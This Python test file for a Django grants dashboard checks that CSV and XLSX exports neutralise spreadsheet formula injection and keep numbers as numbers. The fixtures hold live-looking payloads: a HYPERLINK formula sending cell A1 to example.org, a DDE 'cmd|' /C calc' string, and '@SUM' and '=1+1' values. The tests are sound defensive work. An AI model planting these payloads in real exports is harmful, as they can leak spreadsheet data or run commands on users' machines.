"""The ministry's CSV and XLSX exports write text that looks like a formula as text, and numbers as numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from grants.models import Municipality, Tranche
from ministry.dashboard import COUNT, MONEY, Column, Table
from ministry.exports import table_csv, table_xlsx
from ministry.services import store_totals
from tests.figures import client_for, user, varied_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Klik")'


@pytest.fixture
def data():
    varied = varied_data()
    store_totals()
    Tranche.objects.filter(pk=varied.older.pk).update(title=FORMULA)
    Municipality.objects.filter(code="GM0363").update(name="-1+1+cmd|' /C calc'!A0")
    return varied


def _export(table: str, file_format: str, params: dict):
    response = client_for(user(analyst=True)).get(reverse("ministry:export", args=[table, file_format]), params)
    assert response.status_code == 200
    return response


def _csv(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_csv_export_quotes_a_tranche_title_that_is_a_formula(data):
    [row] = _csv(_export("tranches", "csv", {"tranche": data.older.slug}))

    assert row["Tranche"] == "'" + FORMULA
    assert row["Amount granted"] == "100000,00"


def test_xlsx_export_writes_a_formula_title_as_text_and_numbers_as_numbers(data):
    sheet = _xlsx(_export("tranches", "xlsx", {"tranche": data.older.slug}))

    assert sheet["A2"].value == "'" + FORMULA
    assert sheet["A2"].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert isinstance(sheet["C2"].value, int | float)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_municipality_name_starting_with_a_minus_is_text(data, file_format):
    response = _export("municipalities", file_format, {"province": "Noord-Holland"})

    if file_format == "csv":
        names = [row["Municipality"] for row in _csv(response)]
    else:
        header, *rows = _xlsx(response).iter_rows(values_only=True)
        names = [row[header.index("Municipality")] for row in rows]
    assert names == ["'-1+1+cmd|' /C calc'!A0"]


def _table() -> Table:
    table = Table(
        code="test",
        title="Test",
        columns=(
            Column("Naam", lambda row: row[0]),
            Column("Bedrag", lambda row: row[1], MONEY),
            Column("Aantal", lambda row: row[2], COUNT),
        ),
    )
    table.rows = [("@SUM(A1:A2)", Decimal("-1250.50"), -3), ("\t=1+1", Decimal("70000.00"), 12)]
    return table


def test_csv_keeps_negative_amounts_as_numbers():
    rows = list(csv.reader(io.StringIO(table_csv(_table()).decode("utf-8-sig")), delimiter=";"))

    assert rows[1:] == [["'@SUM(A1:A2)", "-1250,50", "-3"], ["'\t=1+1", "70000,00", "12"]]


def test_xlsx_keeps_negative_amounts_as_numbers():
    sheet = load_workbook(io.BytesIO(table_xlsx(_table()))).active

    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        ["'@SUM(A1:A2)", -1250.5, -3],
        ["'\t=1+1", 70000, 12],
    ]
    assert [sheet["B2"].data_type, sheet["C2"].data_type] == ["n", "n"]
